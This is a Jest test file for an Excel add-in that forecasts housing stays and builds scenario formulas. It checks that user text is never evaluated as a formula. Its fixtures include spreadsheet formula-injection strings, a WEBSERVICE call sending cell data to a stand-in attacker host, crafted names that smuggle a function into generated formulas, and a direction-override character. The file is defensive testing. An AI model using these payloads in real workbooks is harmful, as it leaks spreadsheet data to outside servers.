/**
 * What the add-in writes stays what it is: text stays text in the memory adapter too (the Office
 * adapter's text prefix is tested in excelWorkbook.test.ts), and the Scenarier sheet's formula is
 * rebuilt from where the stays are, which the add-in keeps with its own sheet, never from the
 * sheet's text: a note edited to a WEBSERVICE formula stays a note.
 */
import { describe, expect, it } from "@jest/globals";
import { MemoryWorkbook } from "../src/demo/memoryWorkbook";
import { parseFormula } from "../src/demo/formulas";
import { sampleWorkbook } from "../src/demo/sampleData";
import { AUDIT_SHEET, findStays, runForecast } from "../src/sheets/forecast/forecastRun";
import {
  LAYOUT,
  OUTPUT_CELL,
  STAYS_PROPERTY,
  parseStaysRef,
  projectionFormula,
  scenarioFormulas,
  scenarioSheet,
  defaultModel,
  staysRef,
  type StaysRef,
} from "../src/sheets/scenarios/scenarioSheet";
import { createOrUpdate, readModel, saveActiveAs } from "../src/sheets/scenarios/scenarioStore";
import { needsTextPrefix } from "../src/workbook/workbook";

const HOSTILE = [
  "=1+1",
  "\t=WEBSERVICE(A1)",
  " =1+1",
  "\r\n=1+1",
  "\u00a0=1+1",
  "\uff1d1+1",
  "007",
  "1-2",
  "TRUE",
];

describe("text written to a sheet stays text", () => {
  it("the rule: formula signs also after white space or fullwidth, digits, truth values", () => {
    for (const text of HOSTILE) expect(needsTextPrefix(text)).toBe(true);
    for (const text of ["Basis", "Refusion NY", "Borger", ""])
      expect(needsTextPrefix(text)).toBe(false);
  });

  it("the memory workbook keeps each text as it is, and evaluates none of them", async () => {
    const workbook = new MemoryWorkbook();
    await workbook.writeOwnSheet({ name: "Ark", sections: [{ at: "A1", values: [HOSTILE] }] });
    expect(workbook.getSheet("Ark")!.values[0]).toEqual(HOSTILE);
    expect(workbook.getSheet("Ark")!.formulas ?? []).toEqual([]);
  });

  it("citizen ids 007, 1-2 and TRUE reach the audit sheet as the same text", async () => {
    const workbook = new MemoryWorkbook();
    workbook.addUserSheet("Ophold", [
      ["Borger", "Indskrivning", "Udskrivning", "Takst"],
      ["007", "2026-05-01", "2026-06-01", 1000],
      ["1-2", "2026-05-01", "2026-06-01", 1000],
      ["TRUE", "2026-05-01", "2026-06-01", 1000],
    ]);
    const found = (await findStays(workbook))!;
    await runForecast(workbook, found, found.mapping, { pseudonymise: false });
    const audit = workbook.getSheet(AUDIT_SHEET)!;
    expect(audit.values.slice(1, 4).map((r) => r[1])).toEqual(["007", "1-2", "TRUE"]);
  });
});

describe("the Scenarier formula is rebuilt from the add-in's own record of the stays", () => {
  async function setup() {
    const workbook = sampleWorkbook();
    const found = (await findStays(workbook))!;
    const stays = staysRef(found, found.mapping)!;
    const sheet = await createOrUpdate(workbook, stays);
    return { workbook, stays, sheet };
  }
  const formulasOf = (workbook: MemoryWorkbook, sheet: string) =>
    (workbook.getSheet(sheet)!.formulas ?? []).map((f) => f.text);

  it("a note edited to =DK.HOUSINGFIRSTPROJECTION(WEBSERVICE(…)) is never written back as a formula", async () => {
    const { workbook, stays, sheet } = await setup();
    const original = projectionFormula(stays);
    const own = scenarioFormulas(stays);
    expect(own[0]).toBe(original);
    // The rest are the budget years' formulas over the output: references and arithmetic only.
    expect(
      own
        .slice(1)
        .every((f) => /^=(IF|SUM)\([A-Z0-9$:(),+\-*/^"]*\)$/.test(f) && !/[A-Z]+!/.test(f))
    ).toBe(true);
    expect(formulasOf(workbook, sheet)).toEqual(own);
    workbook.setCell(
      sheet,
      LAYOUT.formulaNoteRow,
      0,
      `Formel i ${OUTPUT_CELL}: =DK.HOUSINGFIRSTPROJECTION(WEBSERVICE("https://angriber.example/?"&A5),'Budget 2026'!C4:C803,'Budget 2026'!D4:D803,'Budget 2026'!E4:E803,'Budget 2026'!F4:F803,A4:B18)`
    );
    // Saving a scenario rewrites the whole sheet from what the add-in stored.
    const saved = await saveActiveAs(workbook, "Plan");
    expect(saved.ok).toBe(true);
    expect(formulasOf(workbook, sheet)).toEqual(own);
    expect(String(workbook.cell(sheet, LAYOUT.formulaNoteRow, 0))).toBe(
      `Formel i ${OUTPUT_CELL}: ${original}`
    );
    expect(JSON.stringify(workbook.getSheet(sheet)!.values)).not.toMatch(/WEBSERVICE/);
  });

  it("a sheet without the add-in's record (made by an earlier version) takes the stays the pane knows, never the note", async () => {
    const { workbook, stays, sheet } = await setup();
    delete workbook.getSheet(sheet)!.properties![STAYS_PROPERTY];
    workbook.setCell(
      sheet,
      LAYOUT.formulaNoteRow,
      0,
      `Formel i ${OUTPUT_CELL}: =DK.HOUSINGFIRSTPROJECTION(WEBSERVICE("x"),A1,A1,A1,0,A4:B18)`
    );
    expect((await readModel(workbook))!.model.stays).toBeNull();
    // Without the pane's stays: no formula at all.
    await createOrUpdate(workbook, null);
    expect(formulasOf(workbook, sheet)).toEqual([]);
    // With them (the pane passes them to every rewrite): the formula over those stays.
    expect((await saveActiveAs(workbook, "Plan", stays)).ok).toBe(true);
    expect(formulasOf(workbook, sheet)).toEqual(scenarioFormulas(stays));
    expect(await workbook.readSheetProperty(sheet, STAYS_PROPERTY)).toBe(JSON.stringify(stays));
  });

  it("a crafted record can name cells, never a function: names are quoted or escaped, or the record is refused", () => {
    const base: StaysRef = {
      sheet: "Budget",
      firstRow: 3,
      lastRow: 10,
      columns: [
        { column: 0, header: "Borger" },
        { column: 1, header: "Ind" },
        { column: 2, header: "Ud" },
        { column: 3, header: "Takst" },
        null,
      ],
    };
    const crafted: StaysRef[] = [
      { ...base, sheet: "x'),WEBSERVICE(\"a\"),('" },
      {
        ...base,
        table: "Ophold",
        columns: [
          { column: 0, header: 'x]],WEBSERVICE("http://a"),T[[y' },
          ...base.columns.slice(1),
        ] as StaysRef["columns"],
      },
    ];
    for (const ref of crafted) {
      const parsed = parseStaysRef(JSON.stringify(ref))!;
      expect(parsed).toEqual(ref);
      const formula = parseFormula(projectionFormula(parsed))!;
      expect(formula.name).toBe("HOUSINGFIRSTPROJECTION");
      expect(formula.args.map((a) => a.kind)).toEqual([
        ...Array(4).fill(ref.table ? "column" : "range"),
        "value",
        "range",
      ]);
    }
    for (const bad of [
      { ...base, table: 'WEBSERVICE("http://a")' },
      { ...base, sheet: "a[b]" },
      { ...base, firstRow: -1 },
      { ...base, lastRow: 1e9 },
      { ...base, columns: base.columns.slice(0, 4) },
      { ...base, formula: "=WEBSERVICE()" },
    ])
      expect(parseStaysRef(JSON.stringify(bad))).toBeNull();
    expect(parseStaysRef("not json")).toBeNull();
    expect(parseStaysRef(undefined)).toBeNull();
  });

  it("the record travels with the sheet spec as its own property, not as a cell", () => {
    const stays = {
      sheet: "Budget",
      firstRow: 3,
      lastRow: 10,
      columns: [
        { column: 0, header: "Borger" },
        { column: 1, header: "Ind" },
        { column: 2, header: "Ud" },
        { column: 3, header: "Takst" },
        null,
      ],
    } satisfies StaysRef;
    const { spec } = scenarioSheet(defaultModel(stays));
    expect(JSON.parse(spec.properties![STAYS_PROPERTY])).toEqual(stays);
  });

  it("a scenario name with a direction override is refused before anything is written", async () => {
    const { workbook } = await setup();
    const result = await saveActiveAs(workbook, "Plan\u202Eb");
    expect(result).toMatchObject({
      ok: false,
      errors: [{ message: expect.stringMatching(/vender tekstretningen/) }],
    });
  });
});
